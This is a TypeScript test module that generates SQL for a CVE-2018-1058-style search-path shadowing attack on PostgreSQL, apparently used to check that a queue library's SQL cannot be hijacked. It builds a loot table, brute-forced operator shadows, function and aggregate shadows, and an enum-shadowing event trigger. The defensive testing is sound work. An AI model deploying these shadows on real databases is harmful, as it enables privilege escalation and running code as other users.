/**
 * The attacker of the search-path shadowing test (CVE-2018-1058 pattern): SQL that a role with CREATE on `public`
 * runs to put same-named functions, aggregates and operators in `public`, each of which writes `current_user` and
 * its own signature into `public.pgqrs_loot` whenever it runs, then does what the pg_catalog original does.
 *
 * Operators are shadowed by brute force: every operator name below, for every pair of argument types below for
 * which pg_catalog has no operator with exactly those argument types (an exact match in `public` would then beat
 * pg_catalog's polymorphic or implicit-cast candidate) but resolves one. Functions and aggregates are shadowed with
 * the signatures that beat pg_catalog's for the argument types the SQL passes (see {@link FUNCTION_SHADOWS}).
 */

/**
 * Loot table, writable by everyone, and the helper every shadow calls: it records who ran which shadow, and inside
 * a read-only transaction (where it cannot write) fails the statement with a message naming the shadow instead.
 */
export const LOOT_SQL = `
  CREATE TABLE public.pgqrs_loot (who text NOT NULL, what text NOT NULL);
  GRANT INSERT ON public.pgqrs_loot TO PUBLIC;
  CREATE FUNCTION public.pgqrs_loot_note(what text) RETURNS void LANGUAGE plpgsql AS $f$
  BEGIN
    INSERT INTO public.pgqrs_loot (who, what) VALUES (current_user, what);
  EXCEPTION WHEN read_only_sql_transaction THEN
    RAISE EXCEPTION 'search-path shadow % ran as % (in a read-only transaction)', what, current_user;
  END $f$;`;

const OPERATORS = [
  "=",
  "<>",
  "<",
  "<=",
  ">",
  ">=",
  "~~",
  "!~~",
  "~~*",
  "!~~*",
  "~",
  "!~",
  "||",
  "+",
  "-",
  "*",
  "/",
  "%",
  "->",
  "->>",
  "#>",
  "#>>",
  "@>",
  "<@",
  "?",
  "?|",
  "?&",
  "&&",
  "#-",
];

/** Types the SQL compares, computes with or passes (columns, casts, parameters, information_schema domains). */
export const BUILTIN_TYPES = [
  "varchar",
  "text",
  "name",
  '"char"',
  "bigint",
  "integer",
  "smallint",
  "numeric",
  "double precision",
  "real",
  "boolean",
  "timestamptz",
  "timestamp",
  "date",
  "interval",
  "jsonb",
  "json",
  "bytea",
  "xid",
  "xid8",
  "oid",
  "regclass",
  "bigint[]",
  "integer[]",
  "text[]",
  "varchar[]",
  "jsonb[]",
  "name[]",
  "information_schema.sql_identifier",
  "information_schema.character_data",
  "information_schema.cardinal_number",
  "information_schema.yes_or_no",
  "information_schema.time_stamp",
];

/**
 * `public.pgqrs_shadow_operators(types)`: creates the operator shadows for every pair of `types` (see the module
 * comment). Written with qualified names only, so it never runs a shadow itself.
 */
export const SHADOW_OPERATORS_FUNCTION = `
  CREATE FUNCTION public.pgqrs_shadow_operators(types text[]) RETURNS integer LANGUAGE plpgsql AS $do$
  DECLARE
    ops text[] := ARRAY[${OPERATORS.map((o) => `'${o}'`).join(", ")}];
    l text; r text; op text; rt text; fname text; made integer := 0;
  BEGIN
    FOREACH op IN ARRAY ops LOOP
      FOREACH l IN ARRAY types LOOP
        FOREACH r IN ARRAY types LOOP
          CONTINUE WHEN EXISTS (
            SELECT 1 FROM pg_catalog.pg_operator o
             WHERE o.oprname OPERATOR(pg_catalog.=) op::name
               AND o.oprleft OPERATOR(pg_catalog.=) pg_catalog.to_regtype(l)::oid
               AND o.oprright OPERATOR(pg_catalog.=) pg_catalog.to_regtype(r)::oid
               AND o.oprnamespace OPERATOR(pg_catalog.=) 'pg_catalog'::regnamespace::oid);
          BEGIN
            EXECUTE pg_catalog.format('SELECT pg_catalog.pg_typeof(NULL::%s OPERATOR(pg_catalog.%s) NULL::%s)::text',
                                      l, op, r) INTO rt;
          EXCEPTION WHEN OTHERS THEN
            CONTINUE;
          END;
          fname := pg_catalog.format('pgqrs_shadow_op_%s', pg_catalog.md5(pg_catalog.format('%s %s %s', op, l, r)));
          EXECUTE pg_catalog.format(
            'CREATE FUNCTION public.%I(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN '
            'PERFORM public.pgqrs_loot_note(%L); '
            'RETURN a OPERATOR(pg_catalog.%s) b; END $f$',
            fname, l, r, rt, pg_catalog.format('operator %s(%s, %s)', op, l, r), op);
          EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%I)',
                                    op, l, r, fname);
          made := made OPERATOR(pg_catalog.+) 1;
        END LOOP;
      END LOOP;
    END LOOP;
    RETURN made;
  END $do$;`;

export interface FunctionShadow {
  name: string;
  args: readonly string[];
  /** A plain function, a set-returning one, or an aggregate (with its state type, step expression and start). */
  kind:
    | { is: "function"; returns: string; delegateAs?: readonly string[] }
    | { is: "setof"; returns: string }
    | { is: "aggregate"; stype: string; step: string; initcond?: string };
}

const count = (arg: string): FunctionShadow => ({
  name: "count",
  args: [arg],
  kind: {
    is: "aggregate",
    stype: "bigint",
    step: "state OPERATOR(pg_catalog.+) CASE WHEN v IS NULL THEN 0 ELSE 1 END",
    initcond: "0",
  },
});
const minMax = (name: "min" | "max", arg: string): FunctionShadow => ({
  name,
  args: [arg],
  kind: { is: "aggregate", stype: arg, step: name === "min" ? "LEAST(state, v)" : "GREATEST(state, v)" },
});
const unnest = (elem: string): FunctionShadow => ({
  name: "unnest",
  args: [`${elem}[]`],
  kind: { is: "setof", returns: elem },
});
const arrayAgg = (elem: string): FunctionShadow => ({
  name: "array_agg",
  args: [elem],
  kind: { is: "aggregate", stype: `${elem}[]`, step: "pg_catalog.array_append(state, v)" },
});
/** `delegateAs`: the types to cast the arguments to when calling the pg_catalog original. */
const fn = (name: string, args: string[], returns: string, delegateAs?: string[]): FunctionShadow => ({
  name,
  args,
  kind: delegateAs === undefined ? { is: "function", returns } : { is: "function", returns, delegateAs },
});

/**
 * Signatures that would beat pg_catalog's for the SQL's arguments: exact types where pg_catalog is polymorphic or
 * needs a cast (`unnest(bigint[])`, `min(varchar)`, `count(bigint)`), and `text` where the SQL passes an untyped
 * parameter to a non-text parameter (`pg_advisory_xact_lock($1)`: unknown prefers the string category).
 */
export const FUNCTION_SHADOWS: Readonly<Record<string, readonly FunctionShadow[]>> = {
  unnest: ["bigint", "integer", "text", "varchar", "jsonb"].map(unnest),
  array_agg: ["bigint", "integer", "text", "varchar"].map(arrayAgg),
  count: ["bigint", "integer", "text", "varchar", "timestamptz", "jsonb"].map(count),
  min: ["varchar", "name"].map((t) => minMax("min", t)),
  max: ["varchar", "name"].map((t) => minMax("max", t)),
  string_agg: [
    {
      name: "string_agg",
      args: ["varchar", "text"],
      kind: { is: "aggregate", stype: "text", step: "pg_catalog.concat_ws(b, state, v)" },
    },
  ],
  set_config: [fn("set_config", ["varchar", "varchar", "boolean"], "text")],
  pg_notify: [fn("pg_notify", ["varchar", "text"], "void"), fn("pg_notify", ["name", "text"], "void")],
  pg_advisory_xact_lock: [
    fn("pg_advisory_xact_lock", ["text"], "void", ["bigint"]),
    fn("pg_advisory_xact_lock", ["integer"], "void", ["bigint"]),
    fn("pg_advisory_xact_lock", ["numeric"], "void", ["bigint"]),
  ],
  pg_try_advisory_xact_lock: [
    fn("pg_try_advisory_xact_lock", ["text"], "boolean", ["bigint"]),
    fn("pg_try_advisory_xact_lock", ["integer"], "boolean", ["bigint"]),
  ],
  md5: [fn("md5", ["name"], "text"), fn("md5", ["varchar"], "text")],
  to_regclass: [fn("to_regclass", ["varchar"], "regclass"), fn("to_regclass", ["name"], "regclass")],
  to_regnamespace: [
    fn("to_regnamespace", ["varchar"], "regnamespace"),
    fn("to_regnamespace", ["name"], "regnamespace"),
  ],
  jsonb_build_object: [
    fn("jsonb_build_object", ["text", "bigint"], "jsonb"),
    fn("jsonb_build_object", ["text", "text"], "jsonb"),
  ],
  concat: [fn("concat", ["text", "name"], "text"), fn("concat", ["text", "text"], "text")],
  to_char: [fn("to_char", ["timestamp", "varchar"], "text"), fn("to_char", ["timestamptz", "text"], "text")],
  format: [
    fn("format", ["text", "text"], "text"),
    fn("format", ["text", "name", "name"], "text"),
    fn("format", ["text", "text", "text"], "text"),
    fn("format", ["text", "text", "bigint"], "text"),
  ],
  array_length: [
    fn("array_length", ["smallint[]", "integer"], "integer"),
    fn("array_length", ["bigint[]", "integer"], "integer"),
  ],
  decode: [fn("decode", ["varchar", "varchar"], "bytea")],
  lower: [fn("lower", ["varchar"], "text"), fn("lower", ["name"], "text")],
  strpos: [fn("strpos", ["varchar", "text"], "integer"), fn("strpos", ["varchar", "varchar"], "integer")],
  floor: [fn("floor", ["bigint"], "numeric"), fn("floor", ["integer"], "numeric")],
  date_part: [
    fn("date_part", ["varchar", "timestamptz"], "double precision"),
    fn("date_part", ["name", "timestamptz"], "double precision"),
  ],
  // The queue controls' functions (migration 0013) pin their own search_path; shadowed anyway in case it is not.
  cardinality: [fn("cardinality", ["bigint[]"], "integer")],
  jsonb_agg: [
    {
      name: "jsonb_agg",
      args: ["jsonb"],
      kind: {
        is: "aggregate",
        stype: "jsonb",
        step: "state OPERATOR(pg_catalog.||) pg_catalog.jsonb_build_array(v)",
        initcond: "[]",
      },
    },
  ],
  sum: [
    {
      name: "sum",
      args: ["bigint"],
      kind: { is: "aggregate", stype: "numeric", step: "COALESCE(state, 0) OPERATOR(pg_catalog.+) v" },
    },
  ],
  jsonb_array_elements: [{ name: "jsonb_array_elements", args: ["jsonb"], kind: { is: "setof", returns: "jsonb" } }],
  hashtextextended: [fn("hashtextextended", ["varchar", "bigint"], "bigint", ["text", "bigint"])],
  jsonb_build_array: [
    fn("jsonb_build_array", ["bigint", "bigint"], "jsonb"),
    fn("jsonb_build_array", ["jsonb"], "jsonb"),
  ],
  // Failover's session check (postgres-multi-host.ts) and the worker filters (postgres-workers.ts, postgres-zombies.ts).
  current_setting: [fn("current_setting", ["varchar"], "text"), fn("current_setting", ["name"], "text")],
  starts_with: [
    fn("starts_with", ["varchar", "text"], "boolean"),
    fn("starts_with", ["varchar", "varchar"], "boolean"),
  ],
  make_interval: [
    fn("make_interval", ["integer", "integer", "integer", "integer", "integer", "integer", "numeric"], "interval"),
  ],
};

/**
 * Functions the SQL may call that no signature can shadow while pg_catalog comes first on the search_path (the
 * default): their only calls take no arguments or are window functions, and a same-signature function in a later
 * schema always loses. Qualified anyway (the static test), which also covers a search_path naming pg_catalog last.
 */
export const UNSHADOWABLE = new Set([
  "now",
  "pg_current_xact_id",
  "row_number",
  "clock_timestamp",
  "statement_timestamp",
  "pg_is_in_recovery",
]);

/** The CREATE statements of one function shadow; `i` keeps helper names unique. */
export function functionShadowSql(s: FunctionShadow, i: number): string {
  const what = `'${s.kind.is} ${s.name}(${s.args.join(", ")})'`;
  const loot = `PERFORM public.pgqrs_loot_note(${what});`;
  const params = s.args.map((t, n) => `a${n} ${t}`).join(", ");
  const pass = s.args.map((_, n) => `a${n}`).join(", ");
  switch (s.kind.is) {
    case "function": {
      const casts = s.kind.delegateAs;
      const args = s.args.map((_, n) => (casts?.[n] === undefined ? `a${n}` : `a${n}::${casts[n]}`)).join(", ");
      const body =
        s.kind.returns === "void"
          ? `PERFORM pg_catalog.${s.name}(${args}); RETURN;`
          : `RETURN pg_catalog.${s.name}(${args});`;
      return `CREATE FUNCTION public.${s.name}(${params}) RETURNS ${s.kind.returns} LANGUAGE plpgsql AS $f$
        BEGIN ${loot} ${body} END $f$;`;
    }
    case "setof":
      return `CREATE FUNCTION public.${s.name}(${params}) RETURNS SETOF ${s.kind.returns} LANGUAGE plpgsql AS $f$
        BEGIN ${loot} RETURN QUERY SELECT * FROM pg_catalog.${s.name}(${pass}); END $f$;`;
    case "aggregate": {
      const step = `pgqrs_shadow_step_${i}`;
      const vars = s.args.length === 1 ? "v" : "v, b";
      const stepParams = s.args.map((t, n) => `${vars.split(", ")[n]} ${t}`).join(", ");
      const init = s.kind.initcond === undefined ? "" : `, INITCOND = '${s.kind.initcond}'`;
      return `CREATE FUNCTION public.${step}(state ${s.kind.stype}, ${stepParams}) RETURNS ${s.kind.stype}
          LANGUAGE plpgsql AS $f$ BEGIN ${loot} RETURN ${s.kind.step}; END $f$;
        CREATE AGGREGATE public.${s.name}(${s.args.join(", ")}) (SFUNC = public.${step}, STYPE = ${s.kind.stype}${init});`;
    }
  }
}

/** Every function shadow, as one script. */
export function functionShadowsSql(): string {
  return Object.values(FUNCTION_SHADOWS)
    .flat()
    .map((s, i) => functionShadowSql(s, i))
    .join("\n");
}

/**
 * An event trigger (created by the superuser, standing in for an attacker who has USAGE on the pgqrs schema) that
 * shadows the operators of every enum type the moment it is created, so the enum comparisons of a freshly
 * installed schema (`status = 'stopped'`, `status IN (…)`) meet an exact-match shadow too.
 */
export const ENUM_SHADOW_TRIGGER_SQL = `
  CREATE FUNCTION public.pgqrs_shadow_new_enums() RETURNS event_trigger LANGUAGE plpgsql SECURITY DEFINER AS $f$
  DECLARE t record;
  BEGIN
    FOR t IN SELECT c.objid FROM pg_catalog.pg_event_trigger_ddl_commands() c
              JOIN pg_catalog.pg_type ty ON ty.oid OPERATOR(pg_catalog.=) c.objid
             WHERE c.classid OPERATOR(pg_catalog.=) 'pg_catalog.pg_type'::regclass::oid
               AND ty.typtype OPERATOR(pg_catalog.=) 'e'::"char" LOOP
      PERFORM public.pgqrs_shadow_operators(ARRAY[t.objid::regtype::text, pg_catalog.format('%s[]', t.objid::regtype)]);
    END LOOP;
  END $f$;
  CREATE EVENT TRIGGER pgqrs_shadow_new_enums ON ddl_command_end WHEN TAG IN ('CREATE TYPE')
    EXECUTE FUNCTION public.pgqrs_shadow_new_enums();`;
